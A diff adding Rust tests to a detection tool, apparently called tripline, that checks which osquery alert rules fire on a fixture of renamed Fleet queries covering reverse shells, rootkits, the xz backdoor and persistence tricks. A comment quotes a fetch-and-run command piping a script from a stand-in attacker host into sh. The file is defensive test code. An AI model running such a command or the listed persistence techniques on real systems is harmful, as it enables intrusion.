@@ -224,6 +224,134 @@ fn macos_attack_story_fires_with_attack_ids() {
     }
 }
 
+const RENAMED: &str = "events/osquery/renamed-fleet.ndjson";
+
+/// What `renamed-fleet.ndjson` must alert on, exactly: (rule, host, alerts). Its queries have
+/// invented names (Fleet display names, private `pack_<pack>_<query>` packs, bare schedule
+/// names), except osquery's own `pack_incident-response_suid_bin` and the Fleet ATT&CK
+/// article's `pack/Global/ATT&CK® - Process_Network_Conn`, so the rules only see the attacks
+/// through the tables their rows' columns come from. Every other row is benign.
+const RENAMED_EXPECTED: &[(&str, &str, usize)] = &[
+    // bash connecting out by itself (audit socket_events)
+    ("osquery_reverse_shell", "web-12.prod.acme.io", 1),
+    // `curl -s http://evil.example.net/x.sh | sh` in www-data's crontab (Fleet)
+    ("osquery_suspicious_cron", "api-07.prod.acme.io", 1),
+    // a key added to root's authorized_keys
+    (
+        "osquery_authorized_keys_added",
+        "bastion-02.prod.acme.io",
+        1,
+    ),
+    // a setuid copy of bash in /dev/shm (a file listing of the temporary directories)
+    ("osquery_suid_binary_in_tmp", "k8s-node-04.prod.acme.io", 1),
+    // xz-utils, liblzma5 and liblzma-dev 5.6.1-1
+    ("osquery_xz_backdoor", "build-05.ci.acme.io", 3),
+    // a second uid-0 account
+    ("osquery_new_admin_user", "db-03.prod.acme.io", 1),
+    // LD_PRELOAD of an unknown library in a process environment
+    ("osquery_ld_preload", "k8s-node-04.prod.acme.io", 1),
+    // the diamorphine rootkit module loaded
+    (
+        "osquery_kernel_module_loaded",
+        "k8s-node-04.prod.acme.io",
+        1,
+    ),
+    // `aws` in root's shell history
+    (
+        "osquery_aws_cli_in_shell_history",
+        "bastion-02.prod.acme.io",
+        1,
+    ),
+    // a LaunchAgent that pipes curl into sh (Fleet, macOS)
+    ("osquery_launchd_persistence", "mbp-spatel.corp.acme.io", 1),
+    // Gatekeeper assessments turned off (Fleet, macOS)
+    ("osquery_gatekeeper_disabled", "mbp-okim.corp.acme.io", 1),
+    // osquery's incident-response suid_bin query, under its public name: a setuid file in /var/tmp
+    ("osquery_suid_binary_in_tmp", "db-03.prod.acme.io", 1),
+    // the article's Process_Network_Conn (Fleet, default decorations): bash with a remote socket
+    ("osquery_reverse_shell", "ingest-03.prod.acme.io", 1),
+];
+
+/// Expectations of `RENAMED_EXPECTED` whose rules are being rewritten to select on `tables`
+/// on branch `rules1`: until that lands they still key on query names this fleet does not
+/// use, so they are not asserted yet. Empty this list once both branches are merged.
+const NEEDS_RULES1: &[(&str, &str)] = &[
+    ("osquery_authorized_keys_added", "bastion-02.prod.acme.io"),
+    ("osquery_new_admin_user", "db-03.prod.acme.io"),
+    ("osquery_kernel_module_loaded", "k8s-node-04.prod.acme.io"),
+    (
+        "osquery_aws_cli_in_shell_history",
+        "bastion-02.prod.acme.io",
+    ),
+    ("osquery_launchd_persistence", "mbp-spatel.corp.acme.io"),
+    ("osquery_gatekeeper_disabled", "mbp-okim.corp.acme.io"),
+];
+
+#[test]
+fn renamed_fleet_fires_each_expected_rule_on_its_host_and_nothing_else() {
+    let out = tripline(&["scan", RENAMED, "--format", "ndjson"]);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let alerts = alerts(&out);
+    let mut fired: HashMap<(String, String), usize> = HashMap::new();
+    for a in &alerts {
+        let rule = a["rule"]["name"].as_str().unwrap().to_string();
+        for host in a["hosts"].as_array().unwrap() {
+            *fired
+                .entry((rule.clone(), host.as_str().unwrap().to_string()))
+                .or_default() += 1;
+        }
+    }
+    let expected = |rule: &str, host: &str| {
+        RENAMED_EXPECTED
+            .iter()
+            .any(|&(r, h, _)| r == rule && h == host)
+    };
+    for &(rule, host, n) in RENAMED_EXPECTED {
+        if NEEDS_RULES1.contains(&(rule, host)) {
+            continue;
+        }
+        let got = fired
+            .get(&(rule.to_string(), host.to_string()))
+            .copied()
+            .unwrap_or(0);
+        assert_eq!(got, n, "{rule} on {host}; fired: {fired:?}");
+    }
+    // The benign rows (and the attacks' benign neighbours) fire nothing.
+    for (rule, host) in fired.keys() {
+        assert!(
+            expected(rule, host),
+            "unexpected {rule} on {host}; fired: {fired:?}"
+        );
+    }
+    for &(rule, host) in NEEDS_RULES1 {
+        assert!(expected(rule, host), "{rule} on {host} is not expected");
+    }
+    let s = summary(&out);
+    assert_eq!(s["alerts"], alerts.len() as u64);
+    assert_eq!(s["rule_errors"], 0);
+    assert_eq!(s["quarantined"], 0);
+}
+
+/// The renamed fleet's rows are known by their columns, not by a query name the built-in
+/// registry knows (except the two public queries it includes on purpose).
+#[test]
+fn renamed_fleet_rows_are_known_by_their_columns() {
+    let out = tripline(&["parse", RENAMED]);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let events = alerts(&out);
+    assert!(events.len() > 80, "{}", events.len());
+    for e in &events {
+        let name = e["name"].as_str().unwrap();
+        let from = e["tables_from"].as_str().unwrap_or("none");
+        if name == "pack_incident-response_suid_bin" {
+            assert_eq!(from, "sql", "{e}");
+        } else {
+            assert_eq!(from, "columns", "{name}: {e}");
+        }
+        assert!(!e["tables"].as_array().unwrap().is_empty(), "{name}: {e}");
+    }
+}
+
 #[test]
 fn config_turns_on_office_network_logins_and_versions() {
     let dir = std::env::temp_dir().join(format!("tripline-scan-test-{}", std::process::id()));
